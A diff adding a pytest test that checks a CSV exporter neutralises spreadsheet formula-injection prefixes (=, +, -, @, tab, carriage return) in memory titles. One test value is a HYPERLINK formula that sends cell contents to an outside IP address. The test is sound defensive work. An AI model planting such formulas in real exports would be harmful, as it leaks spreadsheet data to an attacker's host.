@@ -1,3 +1,6 @@
+import csv
+import io
+import json
 from dataclasses import replace
 
 import pandas as pd
@@ -176,3 +179,22 @@ def test_queue_sorts_and_pages(workspace):
     assert sort_queue(undecided, QueueOrder.PENDING).iloc[0]["edge_id"] == AGAINST.key.token
     page = page_rows(sort_queue(frame, "priority"), Page.of(len(frame), 1, 3))
     assert isinstance(page, pd.DataFrame) and len(page) == 1 and page.index.tolist() == [0]
+
+
+@pytest.mark.parametrize(
+    "title",
+    ['=HYPERLINK("http://203.0.113.9/?x="&A1,"open")', "+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx"],
+    ids=["hyperlink", "plus", "minus", "at", "tab", "carriage-return"],
+)
+def test_csv_neutralises_formula_prefixes(lab_path, title):
+    note = lab_path / ".memory/chk-2024-q1.md"
+    text = note.read_text(encoding="utf-8")
+    start = text.index("title:")
+    end = text.index("\n", start)
+    note.write_text(text[:start] + f"title: {json.dumps(title)}" + text[end:], encoding="utf-8")
+    frame = matrix_frame(OVERLAY, open_workspace(lab_path))
+    assert title in list(frame["memory_title"])
+    rows = list(csv.DictReader(io.StringIO(to_csv(frame), newline="")))
+    titles = [row["memory_title"] for row in rows if row["memory_id"] == "chk-2024-q1"]
+    assert titles and set(titles) == {"'" + title}
+    assert all(not row["zk_title"].startswith(("=", "+", "-", "@")) for row in rows)
